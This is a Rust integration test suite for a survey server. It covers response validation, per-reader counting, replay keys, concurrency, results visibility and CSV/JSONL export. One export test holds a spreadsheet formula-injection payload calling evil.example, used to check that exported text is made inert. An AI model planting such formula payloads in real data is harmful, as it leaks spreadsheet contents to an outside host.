//! Reader surveys against a real server process, on every backend this
//! machine has: responses checked with the widget's own rules, counted per
//! question once per reader, replayed by key, and exported.

mod support;

use serde_json::{json, Value};
use support::{backends, first_event, key, Backend, Server};

const SURVEY: &str = include_str!("../../tests/fixtures/workload-survey.json");

fn server(backend: &Backend, definition: &str) -> Server {
    backend.add_poll(definition);
    Server::start(backend, &["--rate-limit", "0"])
}

fn with(changes: Value) -> String {
    let mut v: Value = serde_json::from_str(SURVEY).unwrap();
    for (k, val) in changes.as_object().unwrap() {
        v[k] = val.clone();
    }
    v.to_string()
}

fn answers() -> Value {
    json!({
        "hours": ["6-10"],
        "stress": 2,
        "recommend": 9,
        "statements": {"supervision": "sa", "caseload": "d", "nwag": "sd"},
        "anything": "Too many cases."
    })
}

fn respond(s: &Server, answers: &Value, key: &str, voter: &str) -> support::Reply {
    let body = json!({"answers": answers, "key": key, "voter": voter}).to_string();
    s.vote("workload-survey", &body)
}

fn question<'a>(results: &'a Value, id: &str) -> &'a Value {
    results["questions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|q| q["id"] == id)
        .unwrap()
}

#[test]
fn a_response_is_counted_per_question_once_per_reader() {
    for b in backends("survey-round-trip") {
        let s = server(&b, SURVEY);
        let before = s.get("/api/polls/workload-survey");
        assert_eq!(before.status, 200, "{b:?}: {}", before.body);
        let before = before.json();
        assert_eq!(
            before["survey"]["title"],
            "Your workload, in four questions"
        );
        assert_eq!(before["open"], true);
        assert!(
            before.get("results").is_none(),
            "after_vote: no results before a response"
        );

        let k = key();
        let first = respond(&s, &answers(), &k, "reader-1");
        assert_eq!(first.status, 201, "{b:?}: {}", first.body);
        let first = first.json();
        assert_eq!(first["counted"], true);
        let results = &first["results"];
        assert_eq!(results["respondents"], 1);
        assert_eq!(question(results, "hours")["counts"]["6-10"], 1);
        assert_eq!(question(results, "hours")["other"], 0);
        assert_eq!(question(results, "stress")["counts"]["2"], 1);
        assert_eq!(question(results, "recommend")["counts"]["9"], 1);
        assert_eq!(question(results, "statements")["counts"]["nwag"]["sd"], 1);
        assert_eq!(question(results, "anything")["written"], 1);
        assert!(question(results, "anything").get("counts").is_none());

        let replay = respond(&s, &answers(), &k, "reader-1");
        assert_eq!(replay.status, 200, "{}", replay.body);
        assert_eq!(replay.json()["counted"], false);
        assert_eq!(replay.json()["results"]["respondents"], 1);

        let again = respond(&s, &answers(), &key(), "reader-1");
        assert_eq!(again.status, 409);
        assert_eq!(again.code(), "already_voted");

        // The results go to the reader who answered, and to no one else.
        let mine = s.get("/api/polls/workload-survey?voter=reader-1").json();
        assert_eq!(mine["results"]["respondents"], 1);
        let theirs = s.get("/api/polls/workload-survey?voter=reader-2").json();
        assert!(theirs.get("results").is_none());
    }
}

#[test]
fn bad_responses_get_their_code_and_count_nothing() {
    for b in backends("survey-bad") {
        let s = server(&b, &with(json!({"results": "always"})));
        let change = |id: &str, value: Value| {
            let mut a = answers();
            if value.is_null() {
                a.as_object_mut().unwrap().remove(id);
            } else {
                a[id] = value;
            }
            a
        };
        let cases = [
            (change("hours", Value::Null), 422, "answer_required"),
            (change("stress", json!(4)), 422, "hidden_answered"),
            (change("stress", json!(9)), 422, "bad_answer"),
            (change("hours", json!(["6-10", "1-5"])), 422, "bad_answer"),
            (
                change("anything", json!("x".repeat(501))),
                422,
                "text_too_long",
            ),
            (
                change("statements", json!({"supervision": "sa"})),
                422,
                "answer_required",
            ),
            (change("pay", json!(1)), 422, "unknown_question"),
        ];
        for (a, status, code) in cases {
            let reply = respond(&s, &a, &key(), "");
            assert_eq!(
                (reply.status, reply.code().as_str()),
                (status, code),
                "{b:?} {a}: {}",
                reply.body
            );
        }
        let malformed = s.vote("workload-survey", r#"{"answers": {}, "key": "k 1"}"#);
        assert_eq!(malformed.code(), "bad_key");
        let unknown_field = s.vote(
            "workload-survey",
            r#"{"answers": {}, "key": "k1", "extra": 1}"#,
        );
        assert_eq!(unknown_field.code(), "bad_json");
        let after = s.get("/api/polls/workload-survey").json();
        assert_eq!(after["results"]["respondents"], 0, "{b:?}");
    }
}

#[test]
fn a_changed_response_moves_the_counts() {
    for b in backends("survey-change") {
        let s = server(
            &b,
            &with(json!({"allow_change": true, "results": "always"})),
        );
        assert_eq!(respond(&s, &answers(), &key(), "reader-1").status, 201);
        let mut changed = answers();
        changed["hours"] = json!(["16-plus", {"other": "weekends too"}]);
        changed["stress"] = json!(4);
        changed.as_object_mut().unwrap().remove("anything");
        let reply = respond(&s, &changed, &key(), "reader-1");
        assert_eq!(
            (reply.status, reply.code().as_str()),
            (422, "bad_answer"),
            "single choice: one pick"
        );
        changed["hours"] = json!([{"other": "weekends too"}]);
        let reply = respond(&s, &changed, &key(), "reader-1");
        assert_eq!(reply.status, 201, "{b:?}: {}", reply.body);
        let results = &reply.json()["results"];
        assert_eq!(results["respondents"], 1, "the same reader");
        assert_eq!(question(results, "hours")["counts"]["6-10"], 0);
        assert_eq!(question(results, "hours")["other"], 1);
        assert_eq!(question(results, "stress")["counts"]["2"], 0);
        assert_eq!(question(results, "stress")["counts"]["4"], 1);
        assert_eq!(question(results, "anything")["written"], 0);
    }
}

#[test]
fn closed_surveys_refuse_but_replay() {
    for b in backends("survey-closed") {
        let s = server(&b, SURVEY);
        let k = key();
        assert_eq!(respond(&s, &answers(), &k, "r1").status, 201);
        b.cli(&["poll", "close", "workload-survey"]).unwrap();
        let late = respond(&s, &answers(), &key(), "r2");
        assert_eq!(
            (late.status, late.code().as_str()),
            (403, "poll_closed"),
            "{b:?}"
        );
        let replay = respond(&s, &answers(), &k, "r1");
        assert_eq!(
            (replay.status, replay.json()["counted"].clone()),
            (200, json!(false))
        );
        let after = s.get("/api/polls/workload-survey").json();
        assert_eq!(after["open"], false);
        assert_eq!(
            after["results"]["respondents"], 1,
            "after_vote: shown once closed"
        );
    }
}

#[test]
fn results_never_stay_private() {
    for b in backends("survey-never") {
        let s = server(&b, &with(json!({"results": "never"})));
        let reply = respond(&s, &answers(), &key(), "r1");
        assert_eq!(reply.status, 201);
        assert!(reply.json().get("results").is_none(), "{}", reply.body);
        let read = s.get("/api/polls/workload-survey?voter=r1").json();
        assert!(read.get("results").is_none());
        // The export still has every response.
        let csv = b
            .cli(&["poll", "export", "workload-survey", "--csv"])
            .unwrap();
        assert_eq!(csv.lines().count(), 2, "{csv}");
    }
}

#[test]
fn one_key_sent_twenty_times_at_once_counts_once() {
    for b in backends("survey-same-key") {
        let s = std::sync::Arc::new(server(&b, &with(json!({"results": "always"}))));
        let k = key();
        let threads: Vec<_> = (0..20)
            .map(|_| {
                let (s, k) = (s.clone(), k.clone());
                std::thread::spawn(move || respond(&s, &answers(), &k, "r1").status)
            })
            .collect();
        let statuses: Vec<u16> = threads.into_iter().map(|t| t.join().unwrap()).collect();
        assert_eq!(
            statuses.iter().filter(|&&c| c == 201).count(),
            1,
            "{statuses:?}"
        );
        assert!(
            statuses.iter().all(|&c| c == 201 || c == 200),
            "{statuses:?}"
        );
        let after = s.get("/api/polls/workload-survey").json();
        assert_eq!(after["results"]["respondents"], 1, "{b:?}");
    }
}

#[test]
fn exports_hold_every_answer_with_hostile_text_made_inert() {
    for b in backends("survey-export") {
        let s = server(&b, &with(json!({"results": "always"})));
        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        let mut first = answers();
        first["hours"] = json!([{"other": "-2 hours, \"some\" weeks"}]);
        first["anything"] = json!(format!("{hostile}\nsecond line"));
        assert_eq!(respond(&s, &first, &key(), "r1").status, 201);
        let mut second = answers();
        second["stress"] = json!(5);
        second.as_object_mut().unwrap().remove("anything");
        second["statements"] = json!({"supervision": "a", "caseload": "n", "nwag": "sd"});
        assert_eq!(respond(&s, &second, &key(), "r2").status, 201);

        let csv = b
            .cli(&["poll", "export", "workload-survey", "--csv"])
            .unwrap();
        let mut lines = csv.split("\r\n");
        assert_eq!(
            lines.next().unwrap(),
            "key,submitted_at,hours,hours.other,stress,recommend,statements.supervision,statements.caseload,statements.nwag,anything"
        );
        assert!(
            csv.contains(",\"'-2 hours, \"\"some\"\" weeks\",2,9,Strongly agree,Disagree,Strongly disagree,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\nsecond line\"\r\n"),
            "{csv}"
        );
        assert!(
            csv.contains(",6-10,,5,9,Agree,Neither agree nor disagree,Strongly disagree,\r\n"),
            "{csv}"
        );

        let jsonl = b
            .cli(&["poll", "export", "workload-survey", "--jsonl"])
            .unwrap();
        let rows: Vec<Value> = jsonl
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(rows.len(), 2);
        let written: Vec<&Value> = rows.iter().map(|r| &r["answers"]["hours"]).collect();
        assert!(
            written.contains(&&json!([{"other": "-2 hours, \"some\" weeks"}])),
            "{jsonl}"
        );
        assert!(rows
            .iter()
            .any(|r| r["answers"]["anything"] == json!(format!("{hostile}\nsecond line"))));

        // The per-question results and the export agree.
        let results = s.get("/api/polls/workload-survey").json()["results"].clone();
        assert_eq!(question(&results, "stress")["counts"]["5"], 1);
        assert_eq!(
            question(&results, "statements")["counts"]["supervision"]["sa"],
            1
        );
        assert_eq!(
            question(&results, "statements")["counts"]["supervision"]["a"],
            1
        );
        assert_eq!(question(&results, "hours")["other"], 1);
    }
}

#[test]
fn surveys_and_polls_share_one_namespace() {
    for b in backends("survey-ids") {
        let clash = with(json!({"id": "overtime-hours"}));
        let file = support::Scratch::file("clash.json", &clash);
        let err = b.cli(&["poll", "add", file.arg()]).unwrap_err();
        assert!(err.contains("already exists"), "{b:?}: {err}");
        // A broken survey names the field at fault.
        let broken = with(
            json!({"questions": [{"id": "q", "type": "scale", "prompt": "P", "min": 1, "max": 20}]}),
        );
        let file = support::Scratch::file("broken.json", &broken);
        let err = b.cli(&["poll", "add", file.arg()]).unwrap_err();
        assert!(err.contains("bad_scale: questions.0.max"), "{err}");
    }
}

#[test]
fn the_event_stream_sends_a_surveys_results_as_its_policy_allows() {
    for b in backends("survey-events") {
        let s = server(&b, &with(json!({"results": "always"})));
        assert_eq!(respond(&s, &answers(), &key(), "reader-1").status, 201);
        let seen = first_event(&s, "/api/polls/workload-survey/events");
        assert_eq!(seen["open"], true, "{b:?}");
        assert_eq!(seen["results"]["respondents"], 1);
        assert_eq!(question(&seen["results"], "hours")["counts"]["6-10"], 1);
        assert_eq!(question(&seen["results"], "anything")["written"], 1);
    }
    for b in backends("survey-events-after-vote") {
        let s = server(&b, SURVEY);
        assert_eq!(respond(&s, &answers(), &key(), "reader-1").status, 201);
        let stranger = first_event(&s, "/api/polls/workload-survey/events");
        assert_eq!(stranger, json!({"open": true}), "{b:?}: after_vote");
        let reader = first_event(&s, "/api/polls/workload-survey/events?voter=reader-1");
        assert_eq!(reader["results"]["respondents"], 1, "{b:?}");
        b.cli(&["poll", "close", "workload-survey"]).unwrap();
        let closed = first_event(&s, "/api/polls/workload-survey/events");
        assert_eq!(closed["open"], false, "{b:?}");
        assert_eq!(
            closed["results"]["respondents"], 1,
            "after_vote: out once closed"
        );
    }
}
